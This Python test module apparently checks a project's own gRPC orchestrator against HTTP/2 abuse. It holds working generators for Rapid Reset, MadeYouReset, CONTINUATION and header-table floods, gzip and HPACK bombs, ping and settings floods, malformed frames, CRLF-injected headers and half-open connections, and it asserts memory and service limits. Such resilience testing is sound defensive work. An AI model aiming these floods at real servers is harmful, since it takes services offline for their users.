"""HTTP/2 and gRPC against the rules: floods, bombs, lies, half-open connections. At the door as a stranger; at the workers' listener as a bad worker."""
import concurrent.futures
import functools
import gzip
import itertools
import socket
import struct
import time

import floods
import hpack
from frame import http2, measure
from frame.attack import Succeeded, all_held, attack, held, tried
from frame.certificates import Identity, new_key, request
from frame.http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS,
                         WINDOW_UPDATE, Connection, frame, settings)
from frame.proto import field

PATH = "/muster.worker.v1.Bootstrap/Enroll"
SECONDS = 3
MOST_MIB = 256  # Of orchestrator and door together, beyond rest.
ENDLESS = 2**30
SESSION_FLOOR = 384 << 10  # What a worker's connection may send in one go.


@functools.cache
def block(path=PATH, more=()):
    return http2.request(path, more=more)


def call(stream, path=PATH, more=(), flags=END_HEADERS):
    return frame(HEADERS, flags, stream, block(path, tuple(more)))


def message(data, compressed=False, length=None):
    return struct.pack(">BI", compressed, len(data) if length is None else length) + data


def comes_in(world, seconds=20):
    """An honest machine comes in, if not at the first try: the door may have been started again."""
    name, token, until = world.server(), world.token(), time.monotonic() + seconds * measure.slowness()
    begin = time.monotonic()
    while True:
        made = world.enroll(token, name, seconds=5)
        if isinstance(made, Identity):
            return f"an honest machine came in after {time.monotonic() - begin:.1f} s"
        if time.monotonic() > until:
            raise Succeeded(f"nobody comes in any more: {made}")
        time.sleep(0.1)


def flooded(world, writes, *, floor=floods.FLOOR, connections=2, seconds=SECONDS, port="bootstrap", read=True, most=MOST_MIB, cut=False, **how):
    """Sends what `writes` makes over some connections, anew when one is ended, and holds memory against its limit. Each comes from an address that nobody
    had before, and together they must have sent `floor` bytes; with `cut`, the orchestrator must have ended one."""
    rest, before = world.orchestrator.resident_mib(), measure.cpu_seconds(world.orchestrator.processes())
    until = time.monotonic() + seconds
    how["floor"] = floor // connections + 1
    with measure.Peak(world.orchestrator.resident_mib) as peak, concurrent.futures.ThreadPoolExecutor(connections) as pool:
        running = [pool.submit(floods.over_connections, world.ports[port], until, writes, world.address(), read, **how) for _ in range(connections)]
        sent = sum((one.result() for one in running), floods.Sent())
    took = measure.cpu_seconds(world.orchestrator.processes()) - before
    held(peak.most - rest <= most, f"{sent}; {peak.most - rest:.0f} MiB more memory")
    tried(sent.bytes >= floor, f"{sent}, less than {floor / 2**20:.2f} MiB")
    held(not cut or sent.cut, f"{sent}: nobody ended it")
    return f"{sent}; {peak.most - rest:.0f} MiB more, {took:.1f} s of a processor; {comes_in(world)}"


def answer_to(connection, seconds=5):
    """What the other side makes of what was sent: "GOAWAY 1", "RST_STREAM 1", "closed", "status 12" of the first call that it answers, or "nothing" in that
    time."""
    decoder = hpack.Decoder()
    for kind, _, stream, payload in connection.frames(seconds):
        if kind == GOAWAY:
            return f"GOAWAY {struct.unpack('>I', payload[4:8])[0]}"
        if kind == RST_STREAM:
            return f"RST_STREAM {struct.unpack('>I', payload)[0]}"
        if kind is None:
            return "closed"
        if kind == HEADERS and stream:
            status = dict(decoder.decode(payload)).get("grpc-status")
            if status is not None:
                return f"status {status}"
    return "nothing"


def enrollment(world):
    """A message that is a good call: whoever gets through with it has enrolled a machine."""
    return message(field(1, world.token().secret) + field(4, world.server()) + field(2, request(new_key())))


def exchanged(world, *frames, seconds=5):
    """What these frames are answered, over a connection of their own."""
    connection = Connection(world.ports["bootstrap"], source=world.address())
    connection.send(b"".join(frames))
    said = answer_to(connection, seconds)
    connection.close()
    return said


def pieces(body, stream=1):
    """Of a message, as frames of a size that may be."""
    parts = [body[at:at + 16000] for at in range(0, len(body), 16000)] or [b""]
    return [frame(DATA, END_STREAM if part is parts[-1] else 0, stream, part) for part in parts]


# -- floods --


@attack("http2", "calls without end that never go on", "256 MiB more at most", quick=True)
def streams(world):
    return flooded(world, lambda: (b"".join(call(1 + 2 * at) for at in range(first, first + 200)) for first in range(0, ENDLESS, 200)))


@attack("http2", "calls opened and reset at once (CVE-2023-44487)", "256 MiB more at most")
def rapid_reset(world):
    return flooded(world, lambda: (b"".join(call(1 + 2 * at) + frame(RST_STREAM, 0, 1 + 2 * at, b"\0\0\0\x08") for at in range(first, first + 200))
                                   for first in range(0, ENDLESS, 200)))


@attack("http2", "calls that the server is made to reset (CVE-2025-8671)", "256 MiB more at most")
def made_you_reset(world):
    return flooded(world, lambda: (b"".join(call(1 + 2 * at) + frame(WINDOW_UPDATE, 0, 1 + 2 * at, b"\0\0\0\0") for at in range(first, first + 100))
                                   for first in range(0, ENDLESS, 100)))


@attack("http2", "header frames without end, small headers (CVE-2024-27316)", "256 MiB more at most", quick=True)
def continuation(world):
    header = b"\x00\x06x-more\x7f\xe1\x1e" + b"v" * 4000
    return flooded(world, lambda: itertools.chain([frame(HEADERS, 0, 1, http2.request(PATH))], itertools.repeat(frame(CONTINUATION, 0, 1, header * 4))))


@attack("http2", "header frames without end and without content (CVE-2019-9518)", "no memory, and others are served")
def empty_continuation(world):
    return flooded(world, lambda: itertools.chain([frame(HEADERS, 0, 1, http2.request(PATH))], itertools.repeat(frame(CONTINUATION, 0, 1) * 500)))


@attack("http2", "one header of 256 MiB", "256 MiB more at most")
def endless_header(world):
    return flooded(world, lambda: itertools.chain([frame(HEADERS, 0, 1, http2.request(PATH) + b"\x00\x06x-long\x7f\x81\xff\xff\x7f" + b"v" * 100)],
                                                  itertools.repeat(frame(CONTINUATION, 0, 1, b"v" * 16000))))


@attack("http2", "a bomb of headers: 4 kB in the table, named 16,000 times in each call (CVE-2016-6581)", "refused by the size that it unfolds to", quick=True)
def header_bomb(world):
    def writes():
        encoder = hpack.Encoder()
        yield frame(HEADERS, END_HEADERS, 1, http2.request(PATH, encoder) + b"\x40\x06x-bomb\x7f\xb1\x1e" + b"v" * 4000)
        for stream in range(3, ENDLESS, 2):
            yield frame(HEADERS, END_HEADERS, stream, http2.request(PATH, encoder) + b"\xbe" * 15000)

    return flooded(world, writes)


@attack("http2", "the header table made small and large again, 8,000 times in a block", "no memory, or an end of the connection")
def table_sizes(world):
    return flooded(world, lambda: (frame(HEADERS, END_HEADERS, stream, b"\x20\x3f\xe1\x1f" * 4000 + http2.request(PATH)) for stream in range(1, ENDLESS, 2)))


@attack("http2", "a header table of 4 GiB announced, then filled", "256 MiB more at most")
def large_table(world):
    def writes():
        for at in range(1, ENDLESS, 2):
            yield frame(HEADERS, END_HEADERS, at, http2.request(PATH) + b"".join(b"\x40\x06" + f"{at * 50 + i:06}"[-6:].encode() + b"\x7f\x81\x01" + b"v" * 256
                                                                                   for i in range(40)))

    return flooded(world, writes, hello=http2.PREFACE + settings((1, 2**32 - 1)))


@attack("http2", "a million pings, answers unread (CVE-2019-9512)", "256 MiB more at most")
def pings(world):
    return flooded(world, lambda: itertools.repeat(frame(PING, 0, 0, b"12345678") * 800), read=False)


@attack("http2", "settings without end, acknowledgements unread (CVE-2019-9515)", "256 MiB more at most")
def settings_flood(world):
    return flooded(world, lambda: itertools.repeat(settings((4, 65535), (3, 100)) * 500), read=False)


@attack("http2", "priorities in circles, of streams that nobody opened (CVE-2019-9513)", "no memory")
def priorities(world):
    return flooded(world, lambda: (b"".join(frame(PRIORITY, 0, 1 + 2 * at, struct.pack(">IB", 1 + 2 * (at + 1), 255)) for at in range(first, first + 500))
                                   for first in range(0, ENDLESS, 500)))


@attack("http2", "data without content, padding alone, on one call (CVE-2019-9518)", "no memory")
def empty_data(world):
    return flooded(world, lambda: itertools.chain([call(1)], itertools.repeat((frame(DATA, 0, 1) + frame(DATA, PADDED, 1, b"\0")) * 300)))


@attack("http2", "frames of kinds that do not exist, 16 kB each", "taken in and forgotten")
def unknown_frames(world):
    return flooded(world, lambda: itertools.chain([call(1)], itertools.repeat(frame(0xBE, 0xFF, 1, b"x" * 16000))))


@attack("http2", "data for calls that have ended", "256 MiB more at most")
def data_after_end(world):
    return flooded(world, lambda: itertools.chain([call(1) + frame(RST_STREAM, 0, 1, b"\0\0\0\x08")], itertools.repeat(frame(DATA, 0, 1, b"x" * 16000))))


@attack("http2", "messages of which only the last byte is missing, on every call that is allowed", "64 kB each, no more", quick=True)
def unfinished_messages(world):
    def writes():
        for stream in range(1, 4001, 2):
            yield call(stream) + b"".join(frame(DATA, 0, stream, part) for part in chunks(message(b"x" * 60_000, length=60_001)))

    def chunks(data):
        return [data[at:at + 16000] for at in range(0, len(data), 16000)]

    return flooded(world, writes)


@attack("http2", "messages that unfold: 60 kB of gzip that are 60 MiB", "refused before they are unfolded, or 256 MiB more at most", quick=True)
def gzip_bomb(world):
    bomb = message(gzip.compress(bytes(60 << 20), 9), compressed=True)

    def writes():
        for stream in range(1, ENDLESS, 2):
            yield call(stream, more=[("grpc-encoding", "gzip")]) + b"".join(
                frame(DATA, END_STREAM if at + 16000 >= len(bomb) else 0, stream, bomb[at:at + 16000]) for at in range(0, len(bomb), 16000))

    return flooded(world, writes)


@attack("http2", "window updates without end, of one byte", "no memory, and others are served")
def window_updates(world):
    return flooded(world, lambda: itertools.chain([call(1)], itertools.repeat(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1") * 900)))


@attack("http2", "refused calls whose answers are never read", "256 MiB more at most")
def unread_answers(world):
    body = message(field(1, "A" * 43) + field(4, "x" * 250) + field(2, request(new_key())))
    return flooded(world, lambda: (b"".join(call(1 + 2 * at) + frame(DATA, END_STREAM, 1 + 2 * at, body) for at in range(first, first + 20))
                                   for first in range(0, ENDLESS, 20)), read=False)


@attack("http2", "the floods of door_memory one after the other, while another machine comes in", "each machine is served within 20 s", seconds=120)
def all_floods(world):
    seen = []
    for each in floods.ALL:
        end = time.monotonic() + 2
        with concurrent.futures.ThreadPoolExecutor(2) as pool:
            running = [pool.submit(each, world.ports["bootstrap"], end, world.address()) for _ in range(2)]
            comes_in(world)
            sent = sum((one.result() for one in running), floods.Sent())
        tried(floods.attacked(each, sent), f"{each.__name__}: {sent}")
        seen.append(f"{each.__name__}: {sent}")
    return f"{len(seen)} machines came in; {'; '.join(seen)}"


# -- a worker that is in, and bad: what many connections of it cost is not bounded (docs/security.md), but nobody else may suffer --


def as_worker(world, writes):
    """Cut off when it has sent what one may in one go; others are served meanwhile, and what it cost is given back."""
    member, other = world.member(), world.member()
    rest = world.orchestrator.resident_mib()
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        flood = pool.submit(flooded, world, writes, floor=SESSION_FLOOR, port="session", certificate=member.files(), most=1024, cut=True)
        time.sleep(0.5)  # It is under way.
        begin = time.monotonic()
        said = world.session_says(other, other.name)
        took = time.monotonic() - begin
        seen = flood.result()
    held(said == "Welcome" and took < 5 * measure.slowness(), f"another worker: {said} after {took:.1f} s")
    until = time.monotonic() + 20
    while world.orchestrator.resident_mib() - rest > MOST_MIB and time.monotonic() < until:
        time.sleep(0.2)
    left = world.orchestrator.resident_mib() - rest
    held(left <= MOST_MIB, f"{left:.0f} MiB are kept")
    return f"{seen}; another worker after {took:.1f} s; {left:.0f} MiB kept"


@attack("http2", "as a worker: calls without end that never go on", "cut off; others are served, the memory comes back", alone=True)
def worker_streams(world):
    path = "/muster.worker.v1.Session/Connect"
    return as_worker(world, lambda: (b"".join(call(1 + 2 * at, path) for at in range(first, first + 200)) for first in range(0, ENDLESS, 200)))


@attack("http2", "as a worker: calls opened and reset", "cut off; others are served, the memory comes back", alone=True)
def worker_resets(world):
    path = "/muster.worker.v1.Session/Connect"
    return as_worker(world, lambda: (b"".join(call(1 + 2 * at, path) + frame(RST_STREAM, 0, 1 + 2 * at, b"\0\0\0\x08") for at in range(first, first + 200))
                                     for first in range(0, ENDLESS, 200)))


@attack("http2", "as a worker: header frames without end", "cut off; others are served, the memory comes back", alone=True)
def worker_continuation(world):
    header = b"\x00\x06x-more\x7f\xe1\x1e" + b"v" * 4000
    return as_worker(world, lambda: itertools.chain([frame(HEADERS, 0, 1, http2.request("/muster.worker.v1.Session/Connect"))],
                                                    itertools.repeat(frame(CONTINUATION, 0, 1, header * 4))))


@attack("http2", "as a worker: messages that unfold, 60 kB to 60 MiB", "cut off; others are served, the memory comes back", alone=True)
def worker_gzip_bomb(world):
    bomb = message(gzip.compress(bytes(60 << 20), 9), compressed=True)

    def writes():
        for stream in range(1, ENDLESS, 2):
            yield call(stream, "/muster.worker.v1.Session/Connect", [("grpc-encoding", "gzip")]) + b"".join(
                frame(DATA, 0, stream, bomb[at:at + 16000]) for at in range(0, len(bomb), 16000))

    return as_worker(world, writes)


@attack("http2", "as an operator: 100 lists and reports, with a window of nothing", "256 MiB more at most; others are answered", alone=True)
def operator_zero_window(world):
    operator = world.operator("viewer")
    world.muster("server", "import", world.write("many.csv", "tenant,zone,name\n" + "".join(f"acme,prod,many-{at}\n" for at in range(5000))))
    rest = world.orchestrator.resident_mib()
    connections = [Connection(world.ports["admin"], source=world.address(), certificate=operator.files(), hello=http2.PREFACE + settings((4, 0)))
                   for _ in range(4)]
    body, asked = message(b""), 0
    with measure.Peak(world.orchestrator.resident_mib) as peak:
        for connection in connections:
            for at in range(100):
                asked += connection.send(call(1 + 2 * at, "/muster.admin.v1.ServerService/ListServers") + frame(DATA, END_STREAM, 1 + 2 * at, body))
        tried(asked == 400, f"{asked} of 400 were asked for")
        answer = world.admin(world.operator("viewer")).call("ListServers", seconds=30)
        held(answer.ok, f"another operator: {answer}")
        time.sleep(2)
    for connection in connections:
        connection.close()
    return held(peak.most - rest <= MOST_MIB, f"{asked} lists, {peak.most - rest:.0f} MiB more")


# -- frames that lie --


HUGE = struct.pack(">I", 2**31 - 1)
IGNORED = ("nothing",)
# Each with what RFC 9113 asks for, and what gRPC 1.51 makes of it: the error, an end without a word (of the calls on it with UNAVAILABLE), or nothing.
ENDS = ("closed", "status 14")
FORBIDDEN = (
    ("a pushed promise (6.6: PROTOCOL_ERROR)", [call(1), frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + block())], IGNORED),
    ("a call on an even stream (5.1.1: PROTOCOL_ERROR)", [call(2)], IGNORED),
    ("data on stream 0 (6.1: PROTOCOL_ERROR)", [frame(DATA, 0, 0, b"x")], IGNORED),
    ("headers on stream 0 (6.2: PROTOCOL_ERROR)", [frame(HEADERS, END_HEADERS, 0, block())], IGNORED),
    ("a smaller stream number than before (5.1.1: PROTOCOL_ERROR)", [call(5), call(3)], IGNORED),
    ("a connection's window beyond 2^31 (6.9.1: FLOW_CONTROL_ERROR)", [frame(WINDOW_UPDATE, 0, 0, HUGE) * 3], IGNORED),
    ("a call's window beyond 2^31 (6.9.1: FLOW_CONTROL_ERROR)", [call(1), frame(WINDOW_UPDATE, 0, 1, HUGE) * 3], IGNORED),
    ("300 pings on stream 1 (6.7: PROTOCOL_ERROR; as too many pings ENHANCE_YOUR_CALM)", [frame(PING, 0, 1, b"12345678") * 300], ("GOAWAY 11", *ENDS)),
    ("a ping of 3 bytes (6.7: FRAME_SIZE_ERROR)", [frame(PING, 0, 0, b"123")], ENDS),
    ("settings on stream 1 (6.5: PROTOCOL_ERROR)", [frame(SETTINGS, 0, 1)], ENDS),
    ("settings of 5 bytes (6.5: FRAME_SIZE_ERROR)", [frame(SETTINGS, 0, 0, b"12345")], ENDS),
    ("a window of 2^31 (6.5.2: FLOW_CONTROL_ERROR)", [settings((4, 2**31))], ("GOAWAY 3",)),
    ("frames of 1 byte at most (6.5.2: PROTOCOL_ERROR)", [settings((5, 1))], ("GOAWAY 1",)),
    ("a continuation of nothing (6.10: PROTOCOL_ERROR)", [frame(CONTINUATION, END_HEADERS, 1, block())], ENDS),
    ("data within headers (6.10: PROTOCOL_ERROR)", [frame(HEADERS, 0, 1, block()), frame(DATA, 0, 1, b"x")], ENDS),
    ("padding longer than its frame (6.2: PROTOCOL_ERROR)", [frame(HEADERS, END_HEADERS | PADDED, 1, b"\xff" + block())], ENDS),
    ("a reset of 2 bytes (6.4: FRAME_SIZE_ERROR)", [call(1), frame(RST_STREAM, 0, 1, b"12")], ENDS),
    ("a window larger by nothing (6.9: PROTOCOL_ERROR)", [frame(WINDOW_UPDATE, 0, 0, bytes(4))], ENDS),
)


@attack("http2", "18 frames that no client may send, one a connection", "11 end it, some with the code of RFC 9113; 7 are ignored: the call behind 300 of them is answered as ever", quick=True)
def forbidden(world):
    rest, before, wrong, seen = world.orchestrator.resident_mib(), measure.cpu_seconds(world.orchestrator.processes()), [], []
    for what, frames, must in FORBIDDEN:
        if must is IGNORED:  # Then it may have no effect, either: on what comes after it, on memory, on processors.
            said = exchanged(world, frames[0], *frames[1:] * 300 if len(frames) > 1 else frames * 300, call(11), *pieces(enrollment(world), 11), seconds=8)
            wrong += [f"{what}: the call after it is answered with {said}"] if said != "status 0" else []
        else:
            said = exchanged(world, *frames, seconds=8)
            wrong += [f"{what}: {said}"] if said not in must else []
        seen.append(said)
    more, took = world.orchestrator.resident_mib() - rest, measure.cpu_seconds(world.orchestrator.processes()) - before
    held(not wrong and more < 32 and took < 5, "; ".join([*wrong, f"{more:.0f} MiB more, {took:.1f} s of a processor"]))
    return f"{all_held(sorted(seen))}; {more:.0f} MiB more, {took:.1f} s of a processor"


@attack("http2", "frames larger than what was agreed; lengths beyond what comes", "an end of the call (gRPC 1.51: PROTOCOL_ERROR) or the connection, no memory")
def oversized(world):
    rest = world.orchestrator.resident_mib()
    with measure.Peak(world.orchestrator.resident_mib) as peak:
        seen = [exchanged(world, call(1), frame(DATA, 0, 1, bytes(1 << 24)[:-1])) for _ in range(4)]
        held(all(one in ("GOAWAY 6", "RST_STREAM 1", *ENDS) for one in seen), all_held(seen))
        waiting = []
        for _ in range(30):
            connection = Connection(world.ports["bootstrap"], source=world.address())
            tried(connection.send(call(1) + frame(DATA, 0, 1, b"x", length=16384)), f"only {len(waiting)} of 30 wait")
            waiting.append(connection)
        seen.append(comes_in(world))
        for connection in waiting:
            connection.close()
    held(peak.most - rest < 64, f"{peak.most - rest:.0f} MiB more")
    return all_held(seen)


# With what each is answered: gRPC 1.51 checks few of the rules. What it takes (0) is the one call that its body is: nobody stands before the listener who
# could read these headers in another way.
GOOD = [(":method", "POST"), (":scheme", "https"), (":path", PATH), (":authority", "x"), ("te", "trailers"), ("content-type", "application/grpc")]
BAD_HEADERS = (
    ("capitals in a name", [*GOOD, ("X-Upper", "1")], ("status 0",)),
    ("line ends in a value", [*GOOD, ("x", "a\r\nb: c")], ("status 0",)),
    ("line ends in a name", [*GOOD, ("x\r\ny", "1")], ("status 0",)),
    ("two methods", [GOOD[0], *GOOD], ("status 0",)),
    ("no method and no scheme", GOOD[2:], ("status 2",)),
    ("GET", [*GOOD[1:], (":method", "GET")], ("status 2",)),
    ("pseudo-headers last", [("te", "trailers"), *GOOD], ("status 0",)),
    ("two paths", [*GOOD, (":path", "/other")], ("status 12",)),
    ("a status", [*GOOD, (":status", "200")], ("status 0",)),
    ("CONNECT", [(":method", "CONNECT"), *GOOD[1:]], ("status 2",)),
    ("a length that is none", [*GOOD, ("content-length", "99999999999999999999")], ("status 0",)),
    ("another length than that of the body", [*GOOD, ("content-length", "1")], ("status 0",)),
    ("chunks", [*GOOD, ("transfer-encoding", "chunked"), ("connection", "close")], ("status 0",)),
    ("NUL in the path", [*GOOD[:2], (":path", PATH + "\0"), *GOOD[3:]], ("status 12",)),
    ("no path", [*GOOD[:2], (":path", ""), *GOOD[3:]], ("status 12",)),
    ("another content type", [*GOOD[:5], ("content-type", "text/html")], ("status 0",)),
)


@attack("http2", "headers against the rules: capitals, line ends, pseudo-headers twice or late, Connection, Transfer-Encoding", "UNKNOWN or UNIMPLEMENTED; or as the one call that its body is")
def bad_headers(world):
    """With a good token each: what is refused for its headers is let in with good ones."""
    seen, wrong = {}, []
    for what, headers, must in BAD_HEADERS:
        body = enrollment(world)
        said = exchanged(world, frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(headers)), *pieces(body))
        seen[what] = said
        if said not in must:
            wrong.append(f"{what}: {said}")
        control = exchanged(world, call(1), *pieces(body))
        tried(control == "status 0", f"{what}: with good headers {control}")
    held(not wrong, "; ".join(wrong))
    world.muster("audit", "list")
    return all_held(sorted(seen.values())) + f"; {comes_in(world)}"


@attack("http2", "paths that are no methods: of other listeners, with ../, 8 kB long, of gRPC's own services", "UNIMPLEMENTED")
def paths(world):
    from frame.proto import wire
    client, seen = world.bootstrap(), []
    names = ["/muster.worker.v1.Session/Connect", "/muster.worker.v1.Session/Renew", "/muster.door.v1.Door/Ask", "/", "/../admin", PATH + "/", PATH.lower(),
             "/" + "x" * 7000, "/grpc.channelz.v1.Channelz/GetTopChannels", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"]
    for path in names + [f"/{method.containing_service.full_name}/{method.name}" for method in wire().admin_methods()]:
        answer = client.call_path(path, b"", seconds=5)
        seen.append(held(answer.code in ("UNIMPLEMENTED", "CONNECTION", "RESOURCE_EXHAUSTED"), f"{path}: {answer}") and answer.code)
    return f"{len(seen)} paths: {all_held(seen)}"


@attack("http2", "messages whose length is a lie: 4 GiB, more than comes, less than comes, two in one call", "UNIMPLEMENTED, INVALID_ARGUMENT, or the first message as it is; no memory")
def message_lengths(world):
    """With a good token each: what is refused for its length is let in with the right one."""
    rest, seen, wrong = world.orchestrator.resident_mib(), [], []
    with measure.Peak(world.orchestrator.resident_mib) as peak:
        for what, change, must in (("4 GiB", lambda good: message(good, length=2**32 - 1), ("status 12",)), ("more than comes", lambda good: message(good, length=len(good) + 1), ("status 12",)),
                                   ("less than comes", lambda good: message(good, length=1), ("status 12",)), ("two, of which the first counts", lambda good: message(good) * 2, ("status 0",)),
                                   ("no frame of gRPC's", lambda good: b"\xff" * 50, ("status 3",)), ("half a head", lambda good: b"\0\0", ("status 12",)),
                                   ("said to be compressed, and not", lambda good: message(good, compressed=True), ("status 0",)),
                                   ("compressed", lambda good: message(gzip.compress(good), compressed=True), ("status 12", "status 13")),
                                   ("a field of 4 GiB", lambda good: message(b"\x0a\xff\xff\xff\xff\x0f" + good), ("status 12",))):
            body = enrollment(world)
            said = exchanged(world, call(1), *pieces(change(body[5:])))
            seen.append(said)
            if said not in must:
                wrong.append(f"{what}: {said}")
            control = exchanged(world, call(1), *pieces(body))
            tried(control == "status 0", f"{what}: with the right length {control}")
    held(not wrong, "; ".join(wrong))
    held(peak.most - rest < 64, f"{peak.most - rest:.0f} MiB more")
    return all_held(seen)


@attack("http2", "half-open: TLS and no preface, half a preface, a preface and silence, a call that never ends", "ended when their time is over", seconds=120)
def half_open(world):
    port, source = world.ports["bootstrap"], world.address()
    openings = {"no preface": b"", "half a preface": http2.PREFACE[:10], "a false preface": b"GET / HTTP/1.1\r\n\r\n", "no settings": http2.PREFACE}
    connections = {name: Connection(port, hello=data, source=source) for name, data in openings.items()}
    connections["silence"] = Connection(port, source=source)
    begin, seen, left = time.monotonic(), {}, dict(connections)
    while left and time.monotonic() - begin < 45:
        for name, connection in list(left.items()):
            if connection.ends_within(0.2):
                seen[name] = time.monotonic() - begin
                del left[name]
    for connection in connections.values():
        connection.close()
    held(not left, f"{', '.join(left)}: open after 45 s")
    return ", ".join(f"{name} {took:.0f} s" for name, took in seen.items())


@attack("http2", "the other side's end is never read: half-closed by the client", "ended, and its descriptor is free again", seconds=60)
def half_closed(world):
    before = measure.descriptors(world.orchestrator.door() or world.orchestrator.pid)
    connections = [Connection(world.ports["bootstrap"], source=world.address()) for _ in range(60)]
    tried(measure.descriptors(world.orchestrator.door() or world.orchestrator.pid) >= before + 50, "they are not in")
    for connection in connections:
        socket.socket.shutdown(connection.socket, socket.SHUT_WR)
    time.sleep(2)
    after = measure.descriptors(world.orchestrator.door() or world.orchestrator.pid)
    for connection in connections:
        connection.close()
    return held(after <= before + 10, f"{after - before} descriptors more")
